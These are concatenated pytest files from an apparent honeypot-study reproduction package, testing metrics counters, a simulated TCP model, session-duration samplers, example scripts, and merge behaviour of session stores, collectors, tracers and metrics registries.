        assert scheduled == dispatched + cancelled

    def test_profiler_sessions_are_categorised(self, engine_profiling):
        metrics = engine_profiling
        accepted = metrics.counter("honeypot.sessions_accepted")
        closed = sum(
            value for name, value in metrics.counters.items()
            if name.startswith("honeypot.sessions.")
        )
        assert accepted > 0
        assert closed == accepted
        assert metrics.counter("honeypot.auth_attempts") >= accepted

    def test_generation_stage_spans_recorded(self, generation):
        _, metrics = generation
        assert metrics.spans["generate"]["count"] == 1
        for stage in ("campaigns", "singletons", "background", "freeze"):
            assert metrics.spans[f"generate/{stage}"]["count"] == 1

    def test_rng_draws_counted(self, generation):
        _, metrics = generation
        assert metrics.counter("rng.draws") > 0
        assert metrics.counter("rng.streams_created") > 0


class TestAnalysisInvariants:
    def test_validate_hits_the_context_cache(self, generation):
        dataset, _ = generation
        with use_metrics() as metrics:
            report = validate(dataset)
        assert report.passed, report.render()
        assert metrics.counter("context.hits") > 0
        assert metrics.counter("context.misses") > 0
        assert metrics.spans["validate"]["count"] == 1

    def test_report_reuses_shared_intermediates(self, generation):
        dataset, _ = generation
        with use_metrics() as metrics:
            full_report(dataset)
        # A full report touches ~30 analyses over <10 intermediates: the
        # shared context must serve far more hits than misses.
        assert metrics.counter("context.hits") > metrics.counter("context.misses")
        assert metrics.counter("context.category_codes.miss") == 1
        assert metrics.spans["report"]["count"] == 1
        per_figure = [p for p in metrics.spans
                      if p.startswith("report/fig")]
        assert len(per_figure) >= 20
        assert all(metrics.spans[p]["wall"] >= 0 for p in per_figure)


class TestLiveFarmInvariants:
    def test_live_sessions_balance(self):
        from repro.farm.live import IntrusionBehavior, LiveFarm, ScanBehavior

        with use_metrics() as metrics:
            farm = LiveFarm(seed=5, n_honeypots=3)
            farm.launch(0x0A000001, 0, ScanBehavior(), at=1.0)
            farm.launch(0x0A000002, 1,
                        IntrusionBehavior(lines=("uname -a", "exit")), at=2.0)
            farm.run()
            store = farm.harvest()
        assert len(store) == 2
        assert metrics.counter("engine.events_dispatched") > 0
        assert metrics.counter("engine.events_scheduled") == (
            metrics.counter("engine.events_dispatched")
            + metrics.counter("engine.events_cancelled"))
        assert metrics.counter("honeypot.sessions_accepted") == 2
        closed = sum(value for name, value in metrics.counters.items()
                     if name.startswith("honeypot.sessions."))
        assert closed == 2


class TestCliSurface:
    ARGS = ["--scale", "40000", "--seed", "11", "--hash-scale", "0.004"]

    def test_metrics_flag_prints_summary(self, capsys):
        from repro.__main__ import main

        with use_metrics():
            assert main(["validate", *self.ARGS, "--metrics"]) == 0
        err = capsys.readouterr().err
        assert "stage timings" in err
        assert "generate" in err
        assert "store.sessions_appended" in err

    def test_metrics_path_dumps_json(self, tmp_path, capsys):
        from repro.__main__ import main

        out = tmp_path / "metrics.json"
        with use_metrics():
            assert main(["report", *self.ARGS, "--metrics", str(out)]) == 0
        capsys.readouterr()
        data = json.loads(out.read_text())
        assert data["counters"]["store.sessions_appended"] > 0
        assert data["counters"]["rng.draws"] > 0
        assert data["counters"]["context.hits"] > 0
        assert any(p.startswith("report/fig") for p in data["spans"])
        # The dump round-trips through the registry loader.
        assert Metrics.from_dict(data).to_dict() == data

    def test_env_hook_reports_without_flag(self, capsys, monkeypatch):
        from repro.__main__ import main

        monkeypatch.setenv("REPRO_METRICS", "1")
        with use_metrics():
            assert main(["validate", *self.ARGS]) == 0
        assert "stage timings" in capsys.readouterr().err

    def test_no_flag_no_env_is_silent(self, capsys, monkeypatch):
        from repro.__main__ import main

        monkeypatch.delenv("REPRO_METRICS", raising=False)
        with use_metrics():
            assert main(["validate", *self.ARGS]) == 0
        assert "stage timings" not in capsys.readouterr().err
