"""Tests for the TCP connection model."""

import pytest

from repro.net.tcp import (
    SSH_PORT,
    TELNET_PORT,
    TcpConnection,
    TcpModel,
    TcpState,
)
from repro.simulation.rng import RngStream


class TestTcpConnection:
    def _conn(self):
        return TcpConnection(client_ip=1, client_port=40000, server_ip=2,
                             server_port=SSH_PORT)

    def test_initial_state(self):
        assert self._conn().state is TcpState.CLOSED

    def test_establish(self):
        conn = self._conn()
        conn.establish(now=1.0)
        assert conn.is_open
        assert conn.established_at == 1.0

    def test_double_establish_rejected(self):
        conn = self._conn()
        conn.establish(1.0)
        with pytest.raises(RuntimeError):
            conn.establish(2.0)

    def test_close_by_client(self):
        conn = self._conn()
        conn.establish(1.0)
        conn.close_by_client(5.0)
        assert conn.state is TcpState.CLOSED_BY_CLIENT
        assert conn.duration == 4.0

    def test_close_by_server(self):
        conn = self._conn()
        conn.establish(1.0)
        conn.close_by_server(181.0)
        assert conn.state is TcpState.CLOSED_BY_SERVER

    def test_reset(self):
        conn = self._conn()
        conn.establish(1.0)
        conn.reset(2.0)
        assert conn.state is TcpState.RESET

    def test_close_without_establish_rejected(self):
        with pytest.raises(RuntimeError):
            self._conn().close_by_client(1.0)

    def test_duration_none_while_open(self):
        conn = self._conn()
        conn.establish(1.0)
        assert conn.duration is None


class TestTcpModel:
    def test_handshake_mostly_succeeds(self):
        model = TcpModel(RngStream(1, "tcp"), loss_probability=0.0)
        results = [model.handshake() for _ in range(50)]
        assert all(r.success for r in results)

    def test_handshake_always_fails_at_full_loss(self):
        model = TcpModel(RngStream(2, "tcp"), loss_probability=1.0)
        assert not model.handshake().success

    def test_rtt_orders_by_distance(self):
        model = TcpModel(RngStream(3, "tcp"))
        same_country = sum(model.rtt_for(True, True) for _ in range(200))
        cross = sum(model.rtt_for(False, False) for _ in range(200))
        assert cross > same_country

    def test_handshake_elapsed_is_1_5_rtt(self):
        model = TcpModel(RngStream(4, "tcp"), loss_probability=0.0)
        result = model.handshake()
        assert result.elapsed == pytest.approx(1.5 * result.rtt)

    def test_ports(self):
        assert SSH_PORT == 22
        assert TELNET_PORT == 23
