"""Tests for per-category field samplers (Figure 7 duration shapes)."""

import numpy as np
import pytest

from repro.simulation.rng import RngStream
from repro.workload.samplers import (
    CLOSE_AUTH_TIMEOUT,
    CLOSE_CLIENT,
    CLOSE_EXIT,
    CLOSE_IDLE_TIMEOUT,
    CLOSE_TOO_MANY,
    IDLE_TIMEOUT,
    NO_LOGIN_TIMEOUT,
    cmd_fields,
    fail_log_fields,
    no_cmd_fields,
    no_cred_fields,
    protocol_array,
)


@pytest.fixture
def rng():
    return RngStream(21, "samplers")


class TestNoCred:
    def test_most_short(self, rng):
        durations, close = no_cred_fields(rng, 5000)
        assert np.median(durations) < 60.0

    def test_timeout_minority(self, rng):
        durations, close = no_cred_fields(rng, 5000)
        timeout_share = (close == CLOSE_AUTH_TIMEOUT).mean()
        assert 0.05 < timeout_share < 0.25
        assert np.all(durations[close == CLOSE_AUTH_TIMEOUT] == NO_LOGIN_TIMEOUT)

    def test_durations_positive(self, rng):
        durations, _ = no_cred_fields(rng, 1000)
        assert (durations > 0).all()
        assert (durations <= NO_LOGIN_TIMEOUT).all()


class TestFailLog:
    def test_attempts_range(self, rng):
        _, _, attempts = fail_log_fields(rng, 3000, np.ones(3000, dtype=bool))
        assert attempts.min() >= 1
        assert attempts.max() <= 3
        assert (attempts == 3).mean() > 0.4

    def test_too_many_only_for_three_ssh(self, rng):
        is_ssh = np.ones(5000, dtype=bool)
        _, close, attempts = fail_log_fields(rng, 5000, is_ssh)
        closed_server = close == CLOSE_TOO_MANY
        assert np.all(attempts[closed_server] == 3)

    def test_telnet_never_server_closed(self, rng):
        is_ssh = np.zeros(3000, dtype=bool)
        _, close, _ = fail_log_fields(rng, 3000, is_ssh)
        assert not (close == CLOSE_TOO_MANY).any()

    def test_short_durations(self, rng):
        durations, _, _ = fail_log_fields(rng, 3000, np.ones(3000, dtype=bool))
        assert np.percentile(durations, 95) < 60.0


class TestNoCmd:
    def test_over_90pct_timeout(self, rng):
        durations, close, _ = no_cmd_fields(rng, 5000)
        # Paper: >90% of NO_CMD sessions end at the idle timeout.
        assert (close == CLOSE_IDLE_TIMEOUT).mean() > 0.88
        timed = durations[close == CLOSE_IDLE_TIMEOUT]
        assert (timed >= IDLE_TIMEOUT).all()

    def test_attempts_mostly_one(self, rng):
        _, _, attempts = no_cmd_fields(rng, 3000)
        assert (attempts == 1).mean() > 0.6


class TestCmd:
    def test_duration_includes_exec(self, rng):
        exec_seconds = np.full(2000, 30.0)
        durations, _, _ = cmd_fields(rng, 2000, exec_seconds)
        assert np.median(durations) > 20.0

    def test_idle_timeout_share(self, rng):
        durations, close, _ = cmd_fields(rng, 5000, np.full(5000, 10.0))
        share = (close == CLOSE_IDLE_TIMEOUT).mean()
        assert 0.2 < share < 0.4
        assert (durations[close == CLOSE_IDLE_TIMEOUT] > IDLE_TIMEOUT).all()

    def test_exit_share(self, rng):
        _, close, _ = cmd_fields(rng, 5000, np.full(5000, 10.0))
        assert 0.02 < (close == CLOSE_EXIT).mean() < 0.15

    def test_downloads_cross_timeout(self, rng):
        # A long download pushes even client-closed sessions past 3 min.
        exec_seconds = np.full(500, 400.0)
        durations, close, _ = cmd_fields(rng, 500, exec_seconds)
        client_closed = durations[close == CLOSE_CLIENT]
        assert (client_closed > IDLE_TIMEOUT).mean() > 0.9


class TestProtocol:
    def test_share_respected(self, rng):
        protocol = protocol_array(rng, 20000, 0.75)
        assert (protocol == 0).mean() == pytest.approx(0.75, abs=0.02)

    def test_extremes(self, rng):
        assert (protocol_array(rng, 100, 1.0) == 0).all()
        assert (protocol_array(rng, 100, 0.0) == 1).all()
