"""Smoke tests: every shipped example runs end to end."""

import subprocess
import sys
from pathlib import Path

import pytest

EXAMPLES = Path(__file__).resolve().parent.parent / "examples"


def run_example(name, *args):
    return subprocess.run(
        [sys.executable, str(EXAMPLES / name), *args],
        capture_output=True, text=True, timeout=600,
    )


class TestExamples:
    def test_quickstart(self):
        result = run_example("quickstart.py", "--scale", "40000")
        assert result.returncode == 0, result.stderr
        assert "Table 1" in result.stdout
        assert "admin" in result.stdout  # Table 2 leader

    def test_live_honeypot(self):
        result = run_example("live_honeypot.py")
        assert result.returncode == 0, result.stderr
        assert "applet not found" in result.stdout  # Mirai busybox probe
        assert "session summary" in result.stdout
        assert "honeypot.login.success" in result.stdout

    def test_campaign_forensics(self):
        result = run_example("campaign_forensics.py")
        assert result.returncode == 0, result.stderr
        assert "Table 4" in result.stdout
        assert "H1" in result.stdout
        assert "Blockable" in result.stdout

    def test_placement_study(self):
        result = run_example("placement_study.py")
        assert result.returncode == 0, result.stderr
        assert "vantage point" in result.stdout
        assert "first observer" in result.stdout

    def test_federation_value(self):
        result = run_example("federation_value.py")
        assert result.returncode == 0, result.stderr
        assert "operator 4" in result.stdout
        assert "Marginal value of scale" in result.stdout

    def test_abuse_notifications(self):
        result = run_example("abuse_notifications.py")
        assert result.returncode == 0, result.stderr
        assert "critical notification" in result.stdout
        assert "dispatch queue" in result.stdout
