"""Edge cases for the two merge layers: stores and farm collectors.

``SessionStore.merge`` / ``StoreBuilder.adopt`` remap interned ids when
combining stores whose string tables diverged; ``FarmCollector.merge``
folds operator counters.  These tests pin the degenerate shapes the happy
path never exercises: empty inputs, fully disjoint tables, overlapping
post-fork tables, and multi-step associativity.
"""

from __future__ import annotations

import numpy as np

from repro.farm.collector import FarmCollector
from repro.store.records import SessionRecord
from repro.store.store import SessionStore, StoreBuilder


def fingerprint(store: SessionStore) -> tuple:
    """Full content identity of a store (column bytes + tables + scripts)."""
    columns = (
        store.start_time, store.duration, store.honeypot, store.protocol,
        store.client_ip, store.client_asn, store.client_country,
        store.n_attempts, store.login_success, store.script_id,
        store.password_id, store.username_id, store.close_reason,
        store.version_id,
    )
    return (
        tuple(np.asarray(c).tobytes() for c in columns),
        tuple(store.hash_ids),
        tuple(store.honeypots.values()),
        tuple(store.countries.values()),
        tuple(store.passwords.values()),
        tuple(store.usernames.values()),
        tuple(store.hashes.values()),
        tuple(store.versions.values()),
        tuple((s.commands, s.uris) for s in store.scripts),
    )


def _record(i: int, honeypot: str, country: str, **kw) -> SessionRecord:
    defaults = dict(
        start_time=float(i * 600), duration=10.0, honeypot_id=honeypot,
        protocol="ssh", client_ip=1000 + i, client_asn=i,
        client_country=country, n_login_attempts=1, login_success=True,
    )
    defaults.update(kw)
    return SessionRecord(**defaults)


def _store(*records: SessionRecord) -> SessionStore:
    builder = StoreBuilder()
    for record in records:
        builder.append(record)
    return builder.build()


class TestStoreMergeEdges:
    def test_merge_of_nothing_is_an_empty_store(self):
        merged = SessionStore.merge([])
        assert len(merged) == 0
        assert merged.honeypots.values() == []

    def test_merge_of_empty_stores_is_empty(self):
        merged = SessionStore.merge([_store(), _store()])
        assert len(merged) == 0

    def test_empty_plus_nonempty_keeps_content(self):
        full = _store(
            _record(0, "pot-a", "US", password="alpha",
                    commands=("ls",), file_hashes=("h1",)),
            _record(1, "pot-b", "DE"),
        )
        for order in ([_store(), full], [full, _store()]):
            merged = SessionStore.merge(order)
            assert fingerprint(merged) == fingerprint(full)

    def test_disjoint_tables_concatenate_in_first_seen_order(self):
        a = _store(_record(0, "pot-a", "US", password="alpha",
                           file_hashes=("h1",)))
        b = _store(_record(1, "pot-b", "DE", password="beta",
                           file_hashes=("h2",)))
        merged = SessionStore.merge([a, b])
        assert merged.honeypots.values() == ["pot-a", "pot-b"]
        assert merged.passwords.values() == ["alpha", "beta"]
        assert merged.hashes.values() == ["h1", "h2"]
        pots = [merged.honeypots.value_of(int(p)) for p in merged.honeypot]
        assert pots == ["pot-a", "pot-b"]

    def test_overlapping_post_fork_tables_remap_to_shared_ids(self):
        base = StoreBuilder()
        base.append(_record(0, "pot-a", "US", password="alpha"))
        left = base.fork_tables()
        right = base.fork_tables()
        # Both forks intern new strings beyond the shared prefix; "pot-c"
        # gets a different id in each fork, "pot-a" keeps the shared one.
        left.append(_record(1, "pot-b", "DE", password="beta"))
        left.append(_record(2, "pot-c", "FR", password="alpha"))
        right.append(_record(3, "pot-c", "FR", password="gamma"))
        right.append(_record(4, "pot-a", "US", password="beta"))

        merged = SessionStore.merge([base.build(), left.build(), right.build()])
        assert len(merged) == 5
        pots = [merged.honeypots.value_of(int(p)) for p in merged.honeypot]
        assert pots == ["pot-a", "pot-b", "pot-c", "pot-c", "pot-a"]
        # The two forks' "pot-c" rows collapse onto one interned id.
        assert int(merged.honeypot[2]) == int(merged.honeypot[3])
        assert int(merged.honeypot[0]) == int(merged.honeypot[4])
        passwords = [merged.passwords.value_of(int(p))
                     for p in merged.password_id]
        assert passwords == ["alpha", "beta", "alpha", "gamma", "beta"]

    def test_merge_then_merge_is_associative(self):
        a = _store(_record(0, "pot-a", "US", password="alpha",
                           commands=("ls",), file_hashes=("h1",)))
        b = _store(_record(1, "pot-b", "DE", password="beta",
                           uris=("http://x/a",), commands=("wget",),
                           file_hashes=("h2", "h1")))
        c = _store(_record(2, "pot-c", "FR", password="alpha",
                           file_hashes=("h3",)))
        flat = SessionStore.merge([a, b, c])
        left_nested = SessionStore.merge([SessionStore.merge([a, b]), c])
        right_nested = SessionStore.merge([a, SessionStore.merge([b, c])])
        assert fingerprint(flat) == fingerprint(left_nested)
        assert fingerprint(flat) == fingerprint(right_nested)

    def test_merge_does_not_mutate_inputs(self):
        a = _store(_record(0, "pot-a", "US", file_hashes=("h1",)))
        b = _store(_record(1, "pot-b", "DE", file_hashes=("h2",)))
        before_a, before_b = fingerprint(a), fingerprint(b)
        SessionStore.merge([a, b])
        assert fingerprint(a) == before_a
        assert fingerprint(b) == before_b


class TestCollectorMergeEdges:
    def test_merge_empty_into_empty(self):
        one, two = FarmCollector(), FarmCollector()
        one.merge(two)
        assert one.sessions_total == 0
        assert one.sessions_by_honeypot == {}
        assert len(one.build_store()) == 0

    def test_merge_populated_into_empty_and_back(self):
        empty, full = FarmCollector(), FarmCollector()
        full.add_record(_record(0, "pot-a", "US"))
        full.add_record(_record(1, "pot-b", "DE"))

        empty.merge(full)
        assert empty.sessions_total == 2
        assert empty.sessions_by_honeypot == {"pot-a": 1, "pot-b": 1}

        # Merging an empty collector back is the identity on counters.
        full.merge(FarmCollector())
        assert full.sessions_total == 2
        assert len(full.build_store()) == 2

    def test_merge_sums_overlapping_honeypot_counters(self):
        one, two = FarmCollector(), FarmCollector()
        for i in range(3):
            one.add_record(_record(i, "pot-a", "US"))
        two.add_record(_record(3, "pot-a", "US"))
        two.add_record(_record(4, "pot-b", "DE"))
        one.merge(two)
        assert one.sessions_total == 5
        assert one.sessions_by_honeypot == {"pot-a": 4, "pot-b": 1}
        store = one.build_store()
        assert len(store) == 5
        pots = [store.honeypots.value_of(int(p)) for p in store.honeypot]
        assert pots == ["pot-a"] * 3 + ["pot-a", "pot-b"]

    def test_merge_is_associative_on_the_store(self):
        def collectors():
            xs = [FarmCollector() for _ in range(3)]
            xs[0].add_record(_record(0, "pot-a", "US", password="alpha"))
            xs[1].add_record(_record(1, "pot-b", "DE", password="beta"))
            xs[2].add_record(_record(2, "pot-a", "US", password="alpha"))
            return xs

        a, b, c = collectors()
        a.merge(b)
        a.merge(c)
        flat = a.build_store()

        x, y, z = collectors()
        y.merge(z)
        x.merge(y)
        nested = x.build_store()
        assert fingerprint(flat) == fingerprint(nested)

    def test_keep_events_extends_on_merge(self):
        one = FarmCollector(keep_events=True)
        two = FarmCollector(keep_events=True)
        one.events.append("e1")
        two.events.append("e2")
        two.events.append("e3")
        one.merge(two)
        assert one.events == ["e1", "e2", "e3"]

    def test_events_dropped_when_not_kept(self):
        one = FarmCollector(keep_events=False)
        two = FarmCollector(keep_events=True)
        two.events.append("e2")
        one.merge(two)
        assert one.events == []
