"""Edge cases for the merge layers: stores, collectors, metrics, traces.

``SessionStore.merge`` / ``StoreBuilder.adopt`` remap interned ids when
combining stores whose string tables diverged; ``FarmCollector.merge``
folds operator counters; ``Metrics.merge`` / ``Tracer.fold`` are the
shard-fold discipline the streaming analytics sketches mirror.  These
tests pin the degenerate shapes the happy path never exercises: empty
inputs, single-shard identity, fully disjoint tables, overlapping
post-fork tables, out-of-order folds, and multi-step associativity.
"""

from __future__ import annotations

import numpy as np

from repro.farm.collector import FarmCollector
from repro.obs.metrics import Metrics
from repro.obs.trace import Tracer, group_by_trace, strip_volatile
from repro.store.records import SessionRecord
from repro.store.store import SessionStore, StoreBuilder


def fingerprint(store: SessionStore) -> tuple:
    """Full content identity of a store (column bytes + tables + scripts)."""
    columns = (
        store.start_time, store.duration, store.honeypot, store.protocol,
        store.client_ip, store.client_asn, store.client_country,
        store.n_attempts, store.login_success, store.script_id,
        store.password_id, store.username_id, store.close_reason,
        store.version_id,
    )
    return (
        tuple(np.asarray(c).tobytes() for c in columns),
        tuple(store.hash_ids),
        tuple(store.honeypots.values()),
        tuple(store.countries.values()),
        tuple(store.passwords.values()),
        tuple(store.usernames.values()),
        tuple(store.hashes.values()),
        tuple(store.versions.values()),
        tuple((s.commands, s.uris) for s in store.scripts),
    )


def _record(i: int, honeypot: str, country: str, **kw) -> SessionRecord:
    defaults = dict(
        start_time=float(i * 600), duration=10.0, honeypot_id=honeypot,
        protocol="ssh", client_ip=1000 + i, client_asn=i,
        client_country=country, n_login_attempts=1, login_success=True,
    )
    defaults.update(kw)
    return SessionRecord(**defaults)


def _store(*records: SessionRecord) -> SessionStore:
    builder = StoreBuilder()
    for record in records:
        builder.append(record)
    return builder.build()


class TestStoreMergeEdges:
    def test_merge_of_nothing_is_an_empty_store(self):
        merged = SessionStore.merge([])
        assert len(merged) == 0
        assert merged.honeypots.values() == []

    def test_merge_of_empty_stores_is_empty(self):
        merged = SessionStore.merge([_store(), _store()])
        assert len(merged) == 0

    def test_empty_plus_nonempty_keeps_content(self):
        full = _store(
            _record(0, "pot-a", "US", password="alpha",
                    commands=("ls",), file_hashes=("h1",)),
            _record(1, "pot-b", "DE"),
        )
        for order in ([_store(), full], [full, _store()]):
            merged = SessionStore.merge(order)
            assert fingerprint(merged) == fingerprint(full)

    def test_disjoint_tables_concatenate_in_first_seen_order(self):
        a = _store(_record(0, "pot-a", "US", password="alpha",
                           file_hashes=("h1",)))
        b = _store(_record(1, "pot-b", "DE", password="beta",
                           file_hashes=("h2",)))
        merged = SessionStore.merge([a, b])
        assert merged.honeypots.values() == ["pot-a", "pot-b"]
        assert merged.passwords.values() == ["alpha", "beta"]
        assert merged.hashes.values() == ["h1", "h2"]
        pots = [merged.honeypots.value_of(int(p)) for p in merged.honeypot]
        assert pots == ["pot-a", "pot-b"]

    def test_overlapping_post_fork_tables_remap_to_shared_ids(self):
        base = StoreBuilder()
        base.append(_record(0, "pot-a", "US", password="alpha"))
        left = base.fork_tables()
        right = base.fork_tables()
        # Both forks intern new strings beyond the shared prefix; "pot-c"
        # gets a different id in each fork, "pot-a" keeps the shared one.
        left.append(_record(1, "pot-b", "DE", password="beta"))
        left.append(_record(2, "pot-c", "FR", password="alpha"))
        right.append(_record(3, "pot-c", "FR", password="gamma"))
        right.append(_record(4, "pot-a", "US", password="beta"))

        merged = SessionStore.merge([base.build(), left.build(), right.build()])
        assert len(merged) == 5
        pots = [merged.honeypots.value_of(int(p)) for p in merged.honeypot]
        assert pots == ["pot-a", "pot-b", "pot-c", "pot-c", "pot-a"]
        # The two forks' "pot-c" rows collapse onto one interned id.
        assert int(merged.honeypot[2]) == int(merged.honeypot[3])
        assert int(merged.honeypot[0]) == int(merged.honeypot[4])
        passwords = [merged.passwords.value_of(int(p))
                     for p in merged.password_id]
        assert passwords == ["alpha", "beta", "alpha", "gamma", "beta"]

    def test_merge_then_merge_is_associative(self):
        a = _store(_record(0, "pot-a", "US", password="alpha",
                           commands=("ls",), file_hashes=("h1",)))
        b = _store(_record(1, "pot-b", "DE", password="beta",
                           uris=("http://x/a",), commands=("wget",),
                           file_hashes=("h2", "h1")))
        c = _store(_record(2, "pot-c", "FR", password="alpha",
                           file_hashes=("h3",)))
        flat = SessionStore.merge([a, b, c])
        left_nested = SessionStore.merge([SessionStore.merge([a, b]), c])
        right_nested = SessionStore.merge([a, SessionStore.merge([b, c])])
        assert fingerprint(flat) == fingerprint(left_nested)
        assert fingerprint(flat) == fingerprint(right_nested)

    def test_merge_does_not_mutate_inputs(self):
        a = _store(_record(0, "pot-a", "US", file_hashes=("h1",)))
        b = _store(_record(1, "pot-b", "DE", file_hashes=("h2",)))
        before_a, before_b = fingerprint(a), fingerprint(b)
        SessionStore.merge([a, b])
        assert fingerprint(a) == before_a
        assert fingerprint(b) == before_b


class TestCollectorMergeEdges:
    def test_merge_empty_into_empty(self):
        one, two = FarmCollector(), FarmCollector()
        one.merge(two)
        assert one.sessions_total == 0
        assert one.sessions_by_honeypot == {}
        assert len(one.build_store()) == 0

    def test_merge_populated_into_empty_and_back(self):
        empty, full = FarmCollector(), FarmCollector()
        full.add_record(_record(0, "pot-a", "US"))
        full.add_record(_record(1, "pot-b", "DE"))

        empty.merge(full)
        assert empty.sessions_total == 2
        assert empty.sessions_by_honeypot == {"pot-a": 1, "pot-b": 1}

        # Merging an empty collector back is the identity on counters.
        full.merge(FarmCollector())
        assert full.sessions_total == 2
        assert len(full.build_store()) == 2

    def test_merge_sums_overlapping_honeypot_counters(self):
        one, two = FarmCollector(), FarmCollector()
        for i in range(3):
            one.add_record(_record(i, "pot-a", "US"))
        two.add_record(_record(3, "pot-a", "US"))
        two.add_record(_record(4, "pot-b", "DE"))
        one.merge(two)
        assert one.sessions_total == 5
        assert one.sessions_by_honeypot == {"pot-a": 4, "pot-b": 1}
        store = one.build_store()
        assert len(store) == 5
        pots = [store.honeypots.value_of(int(p)) for p in store.honeypot]
        assert pots == ["pot-a"] * 3 + ["pot-a", "pot-b"]

    def test_merge_is_associative_on_the_store(self):
        def collectors():
            xs = [FarmCollector() for _ in range(3)]
            xs[0].add_record(_record(0, "pot-a", "US", password="alpha"))
            xs[1].add_record(_record(1, "pot-b", "DE", password="beta"))
            xs[2].add_record(_record(2, "pot-a", "US", password="alpha"))
            return xs

        a, b, c = collectors()
        a.merge(b)
        a.merge(c)
        flat = a.build_store()

        x, y, z = collectors()
        y.merge(z)
        x.merge(y)
        nested = x.build_store()
        assert fingerprint(flat) == fingerprint(nested)

    def test_keep_events_extends_on_merge(self):
        one = FarmCollector(keep_events=True)
        two = FarmCollector(keep_events=True)
        one.events.append("e1")
        two.events.append("e2")
        two.events.append("e3")
        one.merge(two)
        assert one.events == ["e1", "e2", "e3"]

    def test_events_dropped_when_not_kept(self):
        one = FarmCollector(keep_events=False)
        two = FarmCollector(keep_events=True)
        two.events.append("e2")
        one.merge(two)
        assert one.events == []


def _worker_trace(shard: int, n: int = 3) -> Tracer:
    """A worker-side tracer with ``n`` events on its own trace id."""
    tracer = Tracer()
    for j in range(n):
        tracer.emit(
            "honeypot.session.connect" if j == 0 else "honeypot.command.input",
            trace_id=f"session:{shard}",
            sim_time=100.0 * shard + j,
            step=j,
        )
    return tracer


class TestTracerFoldEdges:
    def test_fold_of_empty_shard_is_a_no_op(self):
        parent = Tracer()
        parent.emit("generator.block", trace_id="t0", sim_time=0.0)
        assert parent.fold([]) == 0
        assert len(parent) == 1
        # The next emit continues the sequence uninterrupted.
        assert parent.emit("generator.block", trace_id="t0",
                           sim_time=1.0)["seq"] == 1

    def test_single_shard_fold_is_identity_modulo_volatile(self):
        worker = _worker_trace(0)
        parent = Tracer()
        shard = {"index": 0, "kind": "pool", "key": "shard-0"}
        assert parent.fold(worker.to_list(), shard=shard) == 3
        stripped = [strip_volatile(e) for e in parent.to_list()]
        assert stripped == [strip_volatile(e) for e in worker.to_list()]
        # seq is re-stamped in fold order and provenance attached.
        assert [e["seq"] for e in parent.to_list()] == [0, 1, 2]
        assert all(e["shard"] == shard for e in parent.to_list())

    def test_fold_does_not_mutate_worker_events(self):
        worker = _worker_trace(0)
        before = [dict(e) for e in worker.to_list()]
        parent = Tracer()
        parent.emit("generator.block", trace_id="pad", sim_time=0.0)
        parent.fold(worker.to_list(), shard={"index": 0, "kind": "pool",
                                             "key": "shard-0"})
        assert worker.to_list() == before  # no seq re-stamp, no shard key

    def test_out_of_order_shard_folds_keep_per_trace_sequences(self):
        def folded(order):
            shards = [_worker_trace(i) for i in range(3)]
            parent = Tracer()
            for i in order:
                parent.fold(shards[i].to_list(),
                            shard={"index": i, "kind": "pool",
                                   "key": f"shard-{i}"})
            return parent.to_list()

        forward = folded((0, 1, 2))
        scrambled = folded((2, 0, 1))
        # Global seq is a valid total order either way...
        for events in (forward, scrambled):
            assert [e["seq"] for e in events] == list(range(9))
        # ...and the per-trace stripped sequences are fold-order-invariant.
        by_trace = {
            trace: [strip_volatile(e) for e in events]
            for trace, events in group_by_trace(forward).items()
        }
        for trace, events in group_by_trace(scrambled).items():
            assert [strip_volatile(e) for e in events] == by_trace[trace]

    def test_fold_respects_capacity_and_counts_drops(self):
        parent = Tracer(capacity=2)
        assert parent.fold(_worker_trace(0).to_list()) == 3
        assert len(parent) == 2
        assert parent.dropped == 1
        assert parent.emitted == 3


def _shard_metrics(counters=(), gauges=(), samples=(), spans=()) -> Metrics:
    m = Metrics()
    for name, value in counters:
        m.inc(name, value)
    for name, value in gauges:
        m.gauge_set(name, value)
    for name, value in samples:
        m.observe(name, value)
    # Spans merged from dict form: exact values, no wall clock involved.
    m.merge({"spans": {path: dict(cell) for path, cell in spans}})
    return m


_SHARDS = (
    dict(counters=[("store.sessions_appended", 5), ("cache.hits", 1)],
         gauges=[("farm.pots.active", 3.0)],
         samples=[("session.duration", 1.0), ("session.duration", 4.0)],
         spans=[("generate", {"count": 1, "wall": 1.5, "cpu": 0.5})]),
    dict(counters=[("store.sessions_appended", 7)],
         gauges=[("farm.pots.active", 8.0)],
         samples=[("session.duration", 2.0)],
         spans=[("generate", {"count": 1, "wall": 0.25, "cpu": 0.125}),
                ("generate/merge", {"count": 2, "wall": 0.5, "cpu": 0.25})]),
    dict(counters=[("cache.hits", 2), ("cache.misses", 1)],
         gauges=[("farm.pots.active", 6.0)],
         samples=[("session.duration", 3.0), ("session.duration", 0.5)],
         spans=[("generate", {"count": 1, "wall": 0.75, "cpu": 0.25})]),
)


class TestMetricsMergeEdges:
    def test_merge_of_fresh_registry_is_identity(self):
        m = _shard_metrics(**_SHARDS[0])
        before = m.to_dict()
        m.merge(Metrics())
        assert m.to_dict() == before

    def test_merge_into_fresh_registry_equals_to_dict(self):
        m = _shard_metrics(**_SHARDS[1])
        fresh = Metrics()
        fresh.merge(m)
        assert fresh.to_dict() == m.to_dict()

    def test_dict_form_merges_like_the_object_form(self):
        a1 = _shard_metrics(**_SHARDS[0])
        a1.merge(_shard_metrics(**_SHARDS[1]))
        a2 = _shard_metrics(**_SHARDS[0])
        a2.merge(_shard_metrics(**_SHARDS[1]).to_dict())
        assert a1.to_dict() == a2.to_dict()

    def test_out_of_order_merges_agree(self):
        def folded(order):
            out = Metrics()
            for i in order:
                out.merge(_shard_metrics(**_SHARDS[i]))
            return out

        forward = folded((0, 1, 2))
        scrambled = folded((2, 0, 1))
        assert forward.counters == scrambled.counters
        assert forward.gauges == scrambled.gauges  # gauge_max: order-free
        assert forward.spans == scrambled.spans  # exact binary fractions
        # Uncapped histograms concatenate: same sample multiset, and the
        # derived statistics agree exactly.
        fh = forward.histograms["session.duration"]
        sh = scrambled.histograms["session.duration"]
        assert sorted(fh.values) == sorted(sh.values)
        assert (fh.count, fh.total, fh.max) == (sh.count, sh.total, sh.max)
        assert fh.percentile(50) == sh.percentile(50)

    def test_span_prefix_reroots_worker_timings(self):
        parent = Metrics()
        parent.merge(_shard_metrics(**_SHARDS[1]), span_prefix="workers/0")
        assert set(parent.spans) == {"workers/0/generate",
                                     "workers/0/generate/merge"}
        assert parent.spans["workers/0/generate"]["count"] == 1
