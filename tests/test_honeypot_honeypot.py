"""Tests for the honeypot instance (accept/reap)."""

import pytest

from repro.honeypot.honeypot import Honeypot, HoneypotConfig
from repro.honeypot.protocol import Protocol
